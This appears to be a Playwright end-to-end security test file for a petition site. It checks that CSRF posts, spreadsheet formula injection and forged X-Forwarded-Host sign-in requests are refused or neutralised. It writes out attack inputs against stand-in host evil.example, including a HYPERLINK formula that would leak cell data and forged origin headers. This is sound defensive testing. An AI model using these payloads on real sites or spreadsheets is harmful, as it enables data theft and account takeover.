import { expect, type APIRequestContext, type Page } from "@playwright/test";
import { fromAddress, mailTo, signInAs, test, uniqueEmail, waitForMail, waitForQueueIdle } from "./fixtures";

/** The signing form's fields as the browser would post them without JavaScript (action id included). */
async function signingFormFields(page: Page, slug: string, email: string): Promise<Record<string, string>> {
  await page.goto(`/en/campaigns/${slug}/sign`);
  await page.getByLabel("Full name").fill("Forged Signer");
  await page.getByLabel("Email address").fill(email);
  await page.getByLabel("I am a Canadian citizen living abroad").check();
  return page.locator("form").filter({ has: page.getByLabel("Full name") }).evaluate((form) => {
    const out: Record<string, string> = {};
    new FormData(form as HTMLFormElement).forEach((v, k) => (out[k] = String(v)));
    return out;
  });
}

async function postForm(request: APIRequestContext, slug: string, fields: Record<string, string>, origin: string) {
  return request.post(`/en/campaigns/${slug}/sign`, { multipart: fields, headers: { origin, "x-forwarded-for": "198.18.90.1" }, maxRedirects: 0 });
}

test("a page on another site submits the signing form (CSRF): the action is refused and nobody is signed up", async ({ page, request, baseURL, world }) => {
  const slug = world.campaignSlug;
  const victim = uniqueEmail("csrf");
  const forged = await postForm(request, slug, await signingFormFields(page, slug, victim), "https://evil.example");
  expect(forged.status()).not.toBe(303);
  expect(forged.headers()["location"] ?? "").not.toContain("check-email");
  // The same post from the site itself works: the forged one failed only because of its origin.
  const control = uniqueEmail("csrf-control");
  const genuine = await postForm(request, slug, await signingFormFields(page, slug, control), baseURL!);
  expect(genuine.status()).toBe(303);
  expect(genuine.headers()["location"]).toContain("/check-email");
  expect(await waitForMail(request, control)).toHaveLength(1);
  await waitForQueueIdle(request);
  expect(await mailTo(request, victim)).toHaveLength(0);
});

test("a name that a spreadsheet would run as a formula is refused at signing, and a formula in a comment reaches the export as text", async ({ page, request, world }) => {
  await fromAddress(page);
  await page.goto(`/en/campaigns/${world.campaignSlug}/sign`);
  await page.getByLabel("Full name").fill('=HYPERLINK("https://evil.example","x")');
  const email = uniqueEmail("formula");
  await page.getByLabel("Email address").fill(email);
  await page.getByLabel("I am a Canadian citizen living abroad").check();
  const comment = '=HYPERLINK("https://evil.example/steal?"&A1,"Click")';
  await page.getByLabel(/^Comment/).fill(comment);
  await page.getByRole("button", { name: "Sign" }).click();
  await expect(page.locator(".field-error", { hasText: "Your name cannot contain web addresses or start with = + - or @." })).toBeVisible();
  // Nothing typed is lost.
  await expect(page.getByLabel("Email address")).toHaveValue(email);
  await expect(page.getByLabel(/^Comment/)).toHaveValue(comment);

  await page.getByLabel("Full name").fill("Formula Tester");
  await page.getByRole("button", { name: "Sign" }).click();
  await expect(page.getByRole("heading", { name: "Check your email" })).toBeVisible();

  await signInAs(page, request, world.owner);
  await page.getByRole("link", { name: world.campaignTitle }).click();
  const campaignId = /campaigns\/([0-9a-f-]{36})/.exec(page.url())![1];
  const csv = await (await page.request.get(`/api/org/${world.orgSlug}/campaigns/${campaignId}/export?status=all`)).text();
  // Her row is the campaign's only one (after the export's id line and the column names).
  expect(csv.trim().split("\r\n")).toHaveLength(3);
  const line = csv.split("\r\n").find((l) => l.includes(email))!;
  expect(line).toContain(`"'=HYPERLINK(""https://evil.example/steal?""&A1,""Click"")"`);
  expect(line).not.toMatch(/,=HYPERLINK|,"=HYPERLINK/);
});

test("a sign-in request with a forged Host (X-Forwarded-Host) still mails a link to this site, so the organizer's token never reaches the forger", async ({ page, request, baseURL, world }) => {
  const organizer = world.owner;
  // The attacker asks for a link for a real organizer, claiming to be evil.example; the origin
  // matches the forged host, so the framework's same-origin check alone would let it through.
  await page.goto("/en/org/sign-in");
  await page.getByLabel("Email address").fill(organizer);
  const fields = await page
    .locator("form")
    .filter({ has: page.getByLabel("Email address") })
    .evaluate((form) => {
      const out: Record<string, string> = {};
      new FormData(form as HTMLFormElement).forEach((v, k) => (out[k] = String(v)));
      return out;
    });
  expect(await mailTo(request, organizer)).toHaveLength(0);
  await request.post("/en/org/sign-in", {
    multipart: fields,
    headers: { origin: "http://evil.example", "x-forwarded-host": "evil.example", "x-forwarded-proto": "http" },
    maxRedirects: 0,
  });
  const mails = await waitForMail(request, organizer, 1);
  expect(mails).toHaveLength(1);
  const text = mails[0].text ?? "";
  expect(text).not.toContain("evil.example");
  const links = text.match(/https?:\/\/[^\s]+/g) ?? [];
  expect(links.length).toBeGreaterThan(0);
  for (const link of links) expect(new URL(link).origin).toBe(new URL(baseURL!).origin);
});
